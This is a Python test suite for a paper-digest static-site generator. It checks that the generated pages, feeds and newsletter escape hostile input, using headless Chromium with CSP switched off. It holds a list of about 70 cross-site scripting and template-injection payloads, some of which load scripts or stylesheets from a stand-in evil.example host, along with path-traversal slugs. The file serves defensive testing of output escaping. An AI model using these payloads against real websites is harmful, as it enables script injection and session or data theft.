"""Hostile text in every field that comes from outside, on every page, in a real Chromium.

The pages are opened with their Content-Security-Policy switched off: escaping alone must hold.
"""

import json
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from digest.two_windows import store_of
from lxml import html

from hotpapers.common.claims import Ledger, Result
from hotpapers.common.papers import Card
from hotpapers.common.papers import Paper as Room
from hotpapers.digest import compare_windows, rising_words
from hotpapers.digest.edition import DaySummary, Edition, RisingWord, RoomStatus
from hotpapers.digest.presenting import shift_figure
from hotpapers.digest.records import Attention, Entry, Mention, Paper, Post
from hotpapers.digest.site import Site, newsletter

RUN = "window.pwned=1"
PAYLOADS = (
    # elements that run
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script >",
    '<script src="https://evil.example/x.js"></script>',
    '<script src="data:text/javascript,window.pwned=1"></script>',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script>{RUN}<p>",
    f"<svg/onload={RUN}>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a></svg>',
    f'<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" ',
    f"<img/src=x/onerror={RUN}//",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' autofocus tabindex=0 onfocus='{RUN}",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    '<object data="javascript:window.pwned=1"></object>',
    '<embed src="javascript:window.pwned=1">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button autofocus>x</button></form>',
    # ends of what surrounds the text
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</svg></title><script>{RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f'\\"}}]}}];{RUN};//',
    f"\u2028{RUN};//",
    # addresses
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>opener.{RUN}</script>",
    f'https://evil.example/" onclick="{RUN}',
    f"https://evil.example/'><script>{RUN}</script>",
    # templates
    "{{7*7}}",
    "{% for x in range(3) %}seven{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    # letters that are not what they seem
    f"＜script＞{RUN}＜/script＞",
    f"\ufeff<script>{RUN}</script>",
    f"<\x00script>{RUN}</\x00script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\u202e<script>{RUN}</script>",
    f"\ud83d<script>{RUN}</script>",
    f"<ſcript>{RUN}</ſcript>",
    f"\x1b[31m<img src=x onerror={RUN}>",
)


OUR_ADDRESS = re.compile(
    r"https?://|#|\.\./|days/|media/|data:image/svg\+xml,%3Csvg|"
    r"(index\.html|search\.html|trends\.html|trends-shift\.html|claims\.html|index\.html#archive|atom\.xml|rss\.xml|feed\.json)$"
)


def tweet(
    text, *, href="https://t.co/x", author="A", link="https://twitter.com/a/status/1", day="March 6, 2031"
):
    return (
        f'<blockquote class="twitter-tweet"><p lang="en" dir="ltr">{text} <a href="{href}">{text}</a></p>'
        f'&mdash; {author} (@a) <a href="{link}">{day}</a></blockquote>'
    )


def hostile_mentions(payload, number):
    markups = [
        payload,
        tweet(payload),
        tweet("x", href=payload),
        tweet("x", author=payload, day=payload),
        tweet("x", link=payload),
        tweet("x").replace('lang="en"', f'lang="{payload}"').replace('dir="ltr"', f'dir="{payload}"'),
    ]
    for place, markup in enumerate(markups):
        yield Mention(
            source="twitter", id=f"{number}-{place}", arxiv_ids=(), html=markup, url=payload, author=payload
        )
    yield Mention(
        source=payload,
        id=f"{number}-t",
        arxiv_ids=(),
        text=f"{payload} https://{payload}",
        url=payload,
        author=payload,
        counts={payload: 7},
    )


def hostile_edition(day):
    made = datetime(day.year, day.month, day.day, 9, tzinfo=UTC)
    entries, readings = [], {}
    for number, payload in enumerate(PAYLOADS):
        arxiv_id = payload if number % 2 else f"3103.{number:05d}"
        attention = Attention(
            arxiv_id=arxiv_id, source=payload, read_at=made, counts={payload: 1000 - number, "x": 1}
        )
        entries.append(
            Entry(
                paper=Paper(
                    arxiv_id=arxiv_id,
                    title=payload,
                    authors=(payload,) * 10,
                    abstract=payload * 30 if number % 3 else "",
                    summary=payload,
                    categories=(payload, payload.upper(), "cs.LG"),
                ),
                attention=attention,
                mentions=tuple(hostile_mentions(payload, number)),
            )
        )
        readings[arxiv_id] = (replace(attention, read_at=made - timedelta(hours=3)), attention)
    return Edition(post=Post(date=day, made_at=made, entries=tuple(entries)), readings=readings)


def hostile_rooms(folder):
    folder.mkdir()
    (folder / "p.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{RUN}"><script>{RUN}</script>'
        '<image href="https://evil.example/x.png"/></svg>',
        encoding="utf-8",
    )
    for number, payload in enumerate(PAYLOADS):
        result = Result(
            id=payload,
            statement=payload,
            source=payload,
            reported=payload,
            measured=payload,
            verdict="fails",
            seconds=1,
        )
        yield RoomStatus(
            room=Room(
                slug=f"room{number}",
                title=payload,
                purpose=payload,
                cli="a.b:app",
                arxiv_id=f"3103.{number:05d}" if number % 4 == 0 else payload,
            ),
            card=Card(
                text=payload,
                command=payload,
                picture=folder / "p.svg",
                picture_alt=payload,
                facts={payload: payload},
            ),
            ledger=Ledger(
                paper="x", made={payload: payload, "commit": payload, "machine": payload}, claims=(result,)
            ),
            missing=(payload,) if number % 3 == 0 else (),
            trouble=payload if number % 3 == 1 else "",
        )


def hostile_shift():
    """The word shift of windows whose every title and abstract attacks."""
    storable = [payload.encode("utf-8", "replace").decode() for payload in PAYLOADS]
    papers = [(payload, f"{payload}. We attack {payload} again.") for payload in storable]
    with store_of(papers, [*papers[::-1], *papers[:20]]) as store:
        return shift_figure(compare_windows(store, rising_words(store), top=60, contexts=12), top=60)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory, invented):
    folder = tmp_path_factory.mktemp("hostile")
    edition = hostile_edition(invented.day)
    words = tuple(
        RisingWord(word=payload, now=0.1, before=0.05, papers=3, score=2.0, q=0.01) for payload in PAYLOADS
    )
    site = invented.write_everything(
        folder / "out",
        edition,
        tuple(hostile_rooms(folder / "demo")),
        trends=replace(invented.trends(), words=words),
        shift=hostile_shift(),
    )
    days = [
        DaySummary(date=invented.day - timedelta(days=place), papers=1, total=1, top_title=payload)
        for place, payload in enumerate(PAYLOADS)
    ]
    site.write_index(days, edition)
    return site


def letter(site, invented):
    return newsletter(
        hostile_edition(invented.day),
        rooms=site.rooms,
        url=site.url,
        sender="a@example.org",
        recipients=["b@example.org"],
    )


def bodies(site, invented):
    """All markup that leaves the house, by name."""
    for name in invented.pages:
        yield name, (site.out / name).read_text(encoding="utf-8")
    yield "feed.json", json.loads((site.out / "feed.json").read_bytes())["items"][0]["content_html"]
    yield "letter", letter(site, invented).get_body(("html",)).get_content()


def test_the_corpus_is_large():
    assert len(set(PAYLOADS)) >= 60


def test_no_markup_comes_from_outside(hostile_site, invented):
    known = {"index.html": 0, invented.pages[1]: 0, "search.html": 2, "trends.html": 0, "claims.html": 0}
    for name, text in bodies(hostile_site, invented):
        page = html.fromstring(text)
        assert len(page.xpath("//script")) == known.get(name, 0), name
        assert not page.xpath(
            "//iframe|//object|//embed|//base|//form|//video|//marquee|//template|//math"
        ), name
        assert not page.xpath("//@*[starts-with(name(), 'on')]"), name
        assert all(re.match(r"figure |graph$", svg.get("class", "")) for svg in page.xpath("//svg")), name
        for address in page.xpath("//@href|//@src|//@cite"):
            assert OUR_ADDRESS.match(address), (name, address)


def test_templates_are_not_run_twice(hostile_site, invented):
    for name, text in bodies(hostile_site, invented):
        if name != "search.html":
            assert "{{7*7}}" in text, name
        assert "sevensevenseven" not in text, name


@pytest.mark.browser
def test_chromium_runs_none_of_it(browser, hostile_site, invented):
    context = browser.new_context(bypass_csp=True)
    context.set_default_timeout(20_000)
    base = hostile_site.out.as_uri()
    seen, dialogs = [], []
    context.on("request", lambda request: seen.append(request.url))
    context.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page = context.new_page()
    for name in invented.pages:
        page.goto(f"{base}/{name}")
        page.eval_on_selector_all("details", "all => all.forEach(one => one.open = true)")
        if name == "search.html":
            for payload in PAYLOADS:
                page.evaluate(
                    "text => { const field = document.getElementById('query'); field.value = text;"
                    " field.dispatchEvent(new Event('input')); }",
                    payload.encode("utf-8", "replace").decode(),
                )
            page.fill("#query", "script")
            page.wait_for_selector("#results li")
        page.evaluate("() => new Promise(done => setTimeout(done, 150))")
        assert page.evaluate("window.pwned") is None, name
        assert page.url.startswith(base)
    page.goto(f"{base}/search.html#q=%3Cimg%20src=x%20onerror={RUN}%3E")
    assert page.evaluate("window.pwned") is None
    for name, text in bodies(hostile_site, invented):
        if name in {"feed.json", "letter"}:
            page.goto("about:blank")
            page.set_content(text)
            page.evaluate("() => new Promise(done => setTimeout(done, 100))")
            assert page.evaluate("window.pwned") is None, name
    context.close()
    assert dialogs == []
    assert [url for url in seen if not url.startswith((base, "data:image/svg+xml,", "about:"))] == []


@pytest.mark.browser
def test_hostile_abstracts_are_text_where_words_are_read_in_context(browser, hostile_site):
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    address = (hostile_site.out / "trends-shift.html").as_uri()
    page.goto(address)
    page.locator(".word").first.click()
    read = [page.inner_text("#reader-texts")]
    while page.is_enabled("#following"):
        page.click("#following")
        read.append(page.inner_text("#reader-texts"))
    assert len(read) > 20
    page.evaluate("() => new Promise(done => setTimeout(done, 150))")
    assert page.evaluate("window.pwned") is None
    assert page.locator("#reader-texts").locator("img, script, iframe, svg, style, form").count() == 0
    assert any("<script>" in text for text in read)
    assert any("onerror" in text for text in read)
    assert [url for url in asked if not url.startswith((address, "data:image/svg+xml,"))] == []
    context.close()


@pytest.mark.browser
def test_the_detector_detects(browser):
    page = browser.new_page()
    found = []
    for payload in (
        PAYLOADS[0],
        f"<img src=x onerror={RUN}>",
        f"<svg/onload={RUN}>",
        f"<details open ontoggle={RUN}>",
    ):
        page.goto("about:blank")
        page.set_content(payload)
        page.evaluate("() => new Promise(done => setTimeout(done, 50))")
        found.append(page.evaluate("window.pwned"))
    page.close()
    assert found == [1, 1, 1, 1]


def test_hostile_slugs_make_no_path(tmp_path, invented):
    (tmp_path / "p.png").write_bytes(invented.png())
    for slug in ("../up", "a/b", "..", ".", "", "a b", "x\0y"):
        room = Room(slug=slug, title="t", purpose="p", cli="a.b:app")
        site = Site(
            tmp_path / "out",
            rooms=[RoomStatus(room=room, card=Card(text="", command="", picture=tmp_path / "p.png"))],
        )
        site.write_day(invented.edition(papers=1))
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out", "p.png"]
    assert [path.name for path in (tmp_path / "out").iterdir()] == ["days"]
